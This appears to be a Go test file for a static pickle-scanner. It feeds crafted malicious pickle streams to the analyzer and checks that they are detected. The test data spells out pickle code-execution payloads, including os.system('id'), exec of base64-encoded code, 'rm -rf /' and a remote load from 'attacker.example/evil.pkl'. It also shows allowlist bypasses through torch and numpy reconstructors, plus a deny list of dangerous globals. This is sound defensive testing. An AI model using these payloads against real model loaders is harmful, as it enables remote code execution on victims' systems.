package pickle

import (
	"bytes"
	"context"
	"os"
	"strings"
	"testing"
)

func run(t *testing.T, data []byte, lim Limits) *Result {
	t.Helper()
	res, err := AnalyzeReaderAt(context.Background(), bytes.NewReader(data), int64(len(data)), lim)
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	return res
}

func global(res *Result, qual string) *Global {
	for _, g := range res.Globals {
		if g.QualName() == qual {
			return g
		}
	}
	return nil
}

func TestMachine(t *testing.T) {
	cases := []struct {
		name      string
		data      string
		global    string // a global that must be recorded
		called    CallKind
		args      string // rendered args of its first call
		malformed string // substring of the malformed message, "" for none
	}{
		{"global reduce", "\x80\x02cos\nsystem\n(X\x02\x00\x00\x00idtR.", "os.system", CallReduce, "'id'", ""},
		{"protocol 0 no header", "cposix\nsystem\n(S'ls -la'\ntR.", "posix.system", CallReduce, "'ls -la'", ""},
		{"STRING escapes", "cos\nsystem\n(S'a\\'b\\x41\\n'\ntR.", "os.system", CallReduce, `'a'bA\n'`, ""},
		{"UNICODE raw escape", "cos\nsystem\n(V\\u0041\\u00e9\ntR.", "os.system", CallReduce, "'Aé'", ""},
		{"BINSTRING and SHORT_BINSTRING", "\x80\x02U\x02osT\x06\x00\x00\x00system\x93U\x02id\x85R.", "os.system", CallReduce, "'id'", ""},
		{"stack global from memo after re-memoisation",
			"\x80\x04\x8c\x02os\x94\x8c\x06system\x94" + "0h\x00q\x07h\x01q\x080" + "h\x07h\x08\x93\x8c\x02id\x85R.", "os.system", CallReduce, "'id'", ""},
		{"LONG_BINPUT/LONG_BINGET", "\x80\x04\x8c\x02osr\x00\x01\x00\x000\x8c\x06systemr\x01\x01\x00\x000j\x00\x01\x00\x00j\x01\x01\x00\x00\x93)R.", "os.system", CallReduce, "", ""},
		{"PUT/GET text", "cos\nsystem\np9\n0g9\n(tR.", "os.system", CallReduce, "", ""},
		{"DUP", "\x80\x02cos\nsystem\n2\x85R.", "os.system", CallReduce, "os.system", ""},
		{"INST", "(S'id'\nios\nsystem\n.", "os.system", CallInst, "'id'", ""},
		{"OBJ", "(cos\nsystem\nS'id'\no.", "os.system", CallObj, "'id'", ""},
		{"NEWOBJ", "\x80\x02csubprocess\nPopen\n)\x81.", "subprocess.Popen", CallNewObj, "", ""},
		{"NEWOBJ_EX", "\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93)}\x92.", "subprocess.Popen", CallNewObjEx, "", ""},
		{"BUILD setstate", "\x80\x02cmymod\nThing\n)\x81}b.", "mymod.Thing", CallBuild, "{}", ""},
		{"APPENDS on an object", "\x80\x02cmymod\nBag\n)\x81(K\x01e.", "mymod.Bag", CallAppend, "1", ""},
		{"SETITEMS on an object", "\x80\x02cmymod\nMap\n)\x81(K\x01K\x02u.", "mymod.Map", CallSetItem, "1, 2", ""},
		// A BUILD state that stores a callable under a method the unpickler
		// calls itself (QA's bypass: a remote pickle loaded on APPEND).
		{"BUILD stores append, APPEND calls it", "\x80\x02ccollections\nOrderedDict\n)RN}Vappend\ncpandas\nread_pickle\ns\x86bVhttps://attacker.example/evil.pkl\na.",
			"pandas.read_pickle", CallReduce, "", ""},
		{"BUILD stores __setstate__, BUILD calls it", "\x80\x02ccollections\nOrderedDict\n)R}V__setstate__\ncpandas\nread_pickle\nsbVhttps://attacker.example/evil.pkl\nb.",
			"pandas.read_pickle", CallReduce, "", ""},
		{"FRAME", "\x80\x04\x95\x15\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93)R.", "os.system", CallReduce, "", ""},
		{"EXT1", "\x80\x02\x82\x07)R.", "copyreg extension.7", CallReduce, "", ""},
		// allowlisted reconstructors that call a callable they are given
		{"_rebuild_from_type (v1) calls func(*args)", "\x80\x02ctorch._tensor\n_rebuild_from_type\n(cevil\nrun\nctorch\nTensor\n(Vtrue\nt}tR.",
			"evil.run", CallReduce, "'true'", ""},
		{"__randomstate_ctor calls its second argument", "\x80\x02cnumpy.random._pickle\n__randomstate_ctor\n(Vtrue\ncevil\nrun\ntR.",
			"evil.run", CallReduce, "'true'", ""},
		{"__generator_ctor calls its second argument", "\x80\x02cnumpy.random._pickle\n__generator_ctor\n(Vtrue\ncevil\nrun\ntR.",
			"evil.run", CallReduce, "'true'", ""},
		{"__bit_generator_ctor calls a class", "\x80\x02cnumpy.random._pickle\n__bit_generator_ctor\n(cevil\nRunner\ntR.",
			"evil.Runner", CallReduce, "", ""},
		{"__randomstate_ctor through __bit_generator_ctor", "\x80\x02cnumpy.random._pickle\n__randomstate_ctor\n(cevil\nRunner\ncnumpy.random._pickle\n__bit_generator_ctor\ntR.",
			"evil.Runner", CallReduce, "", ""},
		{"getattr synthesises the attribute", "\x80\x02cbuiltins\ngetattr\ncos\n\nVsystem\n\x86R)R.", "os.system", CallReduce, "", ""},
		{"payload then truncation", "\x80\x02cos\nsystem\n(Vid\ntRX\xff\x00", "os.system", CallReduce, "'id'", "truncated"},
		{"payload then invalid opcode", "\x80\x02cos\nsystem\n(Vid\ntR\xff", "os.system", CallReduce, "'id'", "invalid load key"},
		{"stack underflow after payload", "cos\nsystem\n(Vid\ntR0R.", "os.system", CallReduce, "'id'", "underflow"},
		{"unknown memo index", "\x80\x02cos\nsystem\n)Rh\x05.", "os.system", CallReduce, "", "memo value not found"},
		{"odd DICT", "\x80\x02cos\nsystem\n)R(K\x01d.", "os.system", CallReduce, "", "odd number"},
		{"STACK_GLOBAL of a non-string", "\x80\x04cos\nsystem\n)RK\x01K\x02\x93.", "os.system", CallReduce, "", "requires str"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := run(t, []byte(c.data), Limits{})
			g := global(res, c.global)
			if g == nil {
				var got []string
				for _, g := range res.Globals {
					got = append(got, g.QualName())
				}
				t.Fatalf("global %s not recorded; got %v (malformed %v)", c.global, got, res.Malformed)
			}
			var call *Call
			for i := range g.Calls {
				if g.Calls[i].Kind == c.called {
					call = &g.Calls[i]
					break
				}
			}
			if call == nil {
				t.Fatalf("calls of %s = %+v, want %s", c.global, g.Calls, c.called)
			}
			if c.args != "" && call.Args != c.args {
				t.Errorf("args = %q, want %q", call.Args, c.args)
			}
			switch {
			case c.malformed == "" && res.Malformed != nil:
				t.Errorf("unexpected malformed: %v", res.Malformed)
			case c.malformed != "" && (res.Malformed == nil || !strings.Contains(res.Malformed.Msg, c.malformed)):
				t.Errorf("malformed = %v, want %q", res.Malformed, c.malformed)
			}
		})
	}
}

func TestMultipleStreamsAndResync(t *testing.T) {
	benign := "\x80\x04}\x94."
	evil := "\x80\x02cos\nsystem\n(Vid\ntR."
	res := run(t, []byte(benign+benign+evil), Limits{})
	if res.Streams != 3 || global(res, "os.system") == nil {
		t.Errorf("streams=%d globals=%v", res.Streams, res.Globals)
	}
	// junk, then a pickle: found by resynchronising
	res = run(t, []byte("\x00\x01\x02garbage\xff"+evil), Limits{})
	if res.Skipped != 11 || global(res, "os.system") == nil {
		t.Errorf("skipped=%d globals=%v", res.Skipped, res.Globals)
	}
	// raw data after the last stream (PyTorch legacy storages), then a payload
	res = run(t, []byte(benign+strings.Repeat("\x00\x80\x01\x02", 1000)+evil), Limits{})
	if global(res, "os.system") == nil {
		t.Errorf("payload behind trailing data not found")
	}
}

func TestLimits(t *testing.T) {
	many := "\x80\x02]" + strings.Repeat("K\x01a", 1000) + "."
	res := run(t, []byte(many), Limits{MaxOpcodes: 100})
	if len(res.Limits) != 1 || res.Limits[0] != LimitOpcodes {
		t.Errorf("limits = %v, want opcodes", res.Limits)
	}
	memo := "\x80\x04]" + strings.Repeat("\x94", 50) + "."
	res = run(t, []byte(memo), Limits{MaxMemo: 10})
	if len(res.Limits) != 1 || res.Limits[0] != LimitMemo {
		t.Errorf("limits = %v, want memo", res.Limits)
	}
	deep := "\x80\x02" + strings.Repeat("(", 100) + "."
	res = run(t, []byte(deep), Limits{MaxStack: 50})
	if len(res.Limits) != 1 || res.Limits[0] != LimitStack {
		t.Errorf("limits = %v, want stack", res.Limits)
	}
	// sparse memo index: no giant allocation, just an entry
	res = run(t, []byte("\x80\x02Nr\xff\xff\xff\x7f0N."), Limits{})
	if res.Malformed != nil || len(res.Limits) != 0 {
		t.Errorf("sparse put: %v %v", res.Malformed, res.Limits)
	}
}

func TestNestedPayloads(t *testing.T) {
	// protocol 2 bytes: _codecs.encode(str, 'latin1') feeding pickle.loads
	inner := "\x80\x02cos\nsystem\n(Vid\ntR."
	var latin strings.Builder
	for _, b := range []byte(inner) {
		latin.WriteRune(rune(b))
	}
	u := latin.String()
	data := "\x80\x02cpickle\nloads\nc_codecs\nencode\nX" + string([]byte{byte(len(u)), 0, 0, 0}) + u + "X\x06\x00\x00\x00latin1\x86R\x85R."
	res := run(t, []byte(data), Limits{})
	if len(res.Payloads) != 1 || res.Payloads[0].Result == nil || global(res.Payloads[0].Result, "os.system") == nil {
		t.Fatalf("payloads = %+v", res.Payloads)
	}
	// depth bound
	res = run(t, []byte(data), Limits{MaxDepth: 1})
	_ = res
	res2, _ := AnalyzeReaderAt(context.Background(), bytes.NewReader([]byte(data)), int64(len(data)), Limits{MaxDepth: 1})
	if res2.Payloads[0].Result == nil {
		t.Fatalf("depth 1 must analyse one level")
	}
}

func TestModuleOverride(t *testing.T) {
	// BUILD on torch._utils makes the allowed name resolve to a string
	data := "\x80\x04\x8c\x05torch\x8c\x06_utils\x93}\x8c\x0f_rebuild_tensor\x8c\x08builtinssb0" +
		"\x8c\x0ctorch._utils\x8c\x0f_rebuild_tensor\x93\x8c\x04eval\x93\x8c\x031+1\x85R."
	res := run(t, []byte(data), Limits{})
	if g := global(res, "torch._utils"); g == nil || len(g.Mutated) != 1 {
		t.Fatalf("mutation not recorded: %+v", res.Globals)
	}
	if g := global(res, "builtins.eval"); g == nil || g.CallCount != 1 {
		t.Fatalf("overridden name not followed: %+v", res.Globals)
	}
}

func TestClassify(t *testing.T) {
	cases := []struct {
		module, name string
		want         Verdict
	}{
		{"os", "system", Denied},
		{"posix", "system", Denied},
		{"nt", "system", Denied},
		{"pathlib", "os.system", Denied},
		{"__builtin__", "getattr", Denied},
		{"builtins", "eval", Denied},
		{"torch", "serialization.load", Denied},
		{"torch.serialization", "load", Denied},
		{"numpy.testing._private.utils", "runstring", Denied},
		{"asyncio.unix_events", "_UnixSubprocessTransport._start", Denied},
		{"_operator", "attrgetter", Denied},
		{"torch._utils", "_rebuild_tensor_v2", Allowed},
		{"torch", "FloatStorage", Allowed},
		{"collections", "OrderedDict", Allowed},
		{"numpy.core.multiarray", "_reconstruct", Allowed},
		{"numpy._core.multiarray", "_reconstruct", Allowed},
		{"sklearn.tree._classes", "DecisionTreeClassifier", Allowed},
		{"sklearn.utils._testing", "Helper", Unknown},
		{"sklearn.tree._classes", "DecisionTreeClassifier.fit", Unknown},
		{"torch._utils", "_rebuild_tensor_v2.__globals__", Unknown},
		{"my.module", "Thing", Unknown},
		{"builtins", "print", Unknown},
	}
	for _, c := range cases {
		if got, _ := Classify(c.module, c.name); got != c.want {
			t.Errorf("Classify(%q, %q) = %d, want %d", c.module, c.name, got, c.want)
		}
	}
}

func TestProbe(t *testing.T) {
	for _, c := range []struct {
		head string
		want bool
	}{
		{"\x80\x04}\x94.", true},
		{"(lp0\nI1\na.", true},
		{"cos\nsystem\n(S'id'\ntR", true}, // truncated protocol 0 with a global
		{"{\"json\": true}", false},
		{"import os\nos.system('id')\n", false},
		{"hello world", false},
		{"\x89PNG\r\n\x1a\n", false},
		{"((((((((((((", false},
	} {
		if got := LooksLikePickle([]byte(c.head)); got != c.want {
			t.Errorf("LooksLikePickle(%q) = %v", c.head, got)
		}
	}
}

func TestCustomSetstate(t *testing.T) {
	for _, c := range []struct {
		data   string
		custom bool
	}{
		{"\x80\x02cmymod\nThing\n)\x81}b.", false},
		{"\x80\x02cmymod\nThing\n)\x81N}\x86b.", false},
		{"\x80\x02cmymod\nThing\n)\x81Vrm -rf /\nb.", true},
		{"\x80\x02cmymod\nThing\n)\x81K\x01K\x02\x86b.", true},
	} {
		res := run(t, []byte(c.data), Limits{})
		g := global(res, "mymod.Thing")
		if g == nil || len(g.Calls) != 2 || g.Calls[1].Kind != CallBuild || g.Calls[1].CustomState != c.custom {
			t.Errorf("%q: calls %+v, want custom=%v", c.data, g, c.custom)
		}
	}
}

func TestDecodedArgumentsShown(t *testing.T) {
	// exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))
	data := "\x80\x02cbuiltins\nexec\ncbase64\nb64decode\nX$\x00\x00\x00aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\x85R\x85R."
	res := run(t, []byte(data), Limits{})
	g := global(res, "builtins.exec")
	if g == nil || len(g.Calls) == 0 || !strings.Contains(g.Calls[0].Args, `import os; os.system(\"id\")`) {
		t.Fatalf("decoded code not shown: %+v", g)
	}
}

// TestEveryOpcode decodes one stream that uses every protocol 0–5 opcode
// that does not import anything, and must reach its STOP cleanly.
func TestEveryOpcode(t *testing.T) {
	u64 := func(n byte) string { return string([]byte{n, 0, 0, 0, 0, 0, 0, 0}) }
	data := "\x80\x05\x95" + u64(0) + "(" + // PROTO, FRAME, MARK
		"\x8f(K\x01K\x02\x90" + // EMPTY_SET, ADDITEMS
		"(K\x03\x91" + // FROZENSET
		"\x8d" + u64(2) + "ab" + "\x8e" + u64(1) + "x" + "\x96" + u64(1) + "y" + // BINUNICODE8, BINBYTES8, BYTEARRAY8
		"\x8b\x02\x00\x00\x00\x01\x00" + "\x8a\x01\xff" + // LONG4, LONG1
		"\x97\x98" + // NEXT_BUFFER, READONLY_BUFFER
		"F1.5\n" + "G\x3f\xf8\x00\x00\x00\x00\x00\x00" + "I01\n" + "I-7\n" + "L12L\n" + // FLOAT, BINFLOAT, INT, LONG
		"M\x01\x00" + "J\x01\x00\x00\x00" + "K\x05" + "\x88\x89N" + // BININT2, BININT, BININT1, NEWTRUE, NEWFALSE, NONE
		"S'q'\n" + "T\x01\x00\x00\x00r" + "U\x01s" + "Vt\n" + "X\x01\x00\x00\x00u" + "\x8c\x01v" + // strings
		"B\x01\x00\x00\x00w" + "C\x01z" + // BINBYTES, SHORT_BINBYTES
		")" + "\x85" + "K\x01K\x02\x86" + "K\x01K\x02K\x03\x87" + // EMPTY_TUPLE, TUPLE1..3
		"(K\x01t" + "]" + "(K\x01l" + "}" + "(K\x01K\x02d" + // TUPLE, EMPTY_LIST, LIST, EMPTY_DICT, DICT
		"]K\x01a" + "](K\x01K\x02e" + "}K\x01K\x02s" + "}(K\x01K\x02u" + // APPEND(S), SETITEM(S)
		"P7\n" + "K\x01Q" + // PERSID, BINPERSID
		"p1\n" + "g1\n" + "q\x02" + "h\x02" + "r\x03\x00\x00\x00" + "j\x03\x00\x00\x00" + "\x94" + // memo ops
		"2" + "0" + "(1" + // DUP, POP, MARK + POP_MARK
		"l." // LIST of everything, STOP
	res := run(t, []byte(data), Limits{})
	if res.Malformed != nil || res.Streams != 1 || len(res.Limits) != 0 {
		t.Fatalf("malformed=%v streams=%d limits=%v", res.Malformed, res.Streams, res.Limits)
	}
	if res.Protocol != 5 {
		t.Errorf("protocol = %d", res.Protocol)
	}
}

func TestLegacyDataSkipped(t *testing.T) {
	for _, c := range []struct {
		file    string
		payload bool
	}{
		{"../testdata/benign/torch_state_dict_legacy.pt", false},
		{"../testdata/malicious/torch_legacy_trailing_payload.pt", true},
	} {
		data, err := os.ReadFile(c.file)
		if err != nil {
			t.Fatal(err)
		}
		r := &countingAt{r: bytes.NewReader(data)}
		res, err := AnalyzeReaderAt(context.Background(), r, int64(len(data)), Limits{})
		if err != nil {
			t.Fatal(err)
		}
		if res.LegacyDataEnd <= 0 {
			t.Errorf("%s: storage records not skipped", c.file)
		}
		if got := global(res, "os.system") != nil; got != c.payload {
			t.Errorf("%s: payload found = %v", c.file, got)
		}
		if !c.payload && res.LegacyDataEnd != int64(len(data)) {
			t.Errorf("%s: data ends at %d of %d", c.file, res.LegacyDataEnd, len(data))
		}
	}
}

type countingAt struct {
	r interface {
		ReadAt([]byte, int64) (int, error)
	}
	n int64
}

func (c *countingAt) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.r.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}
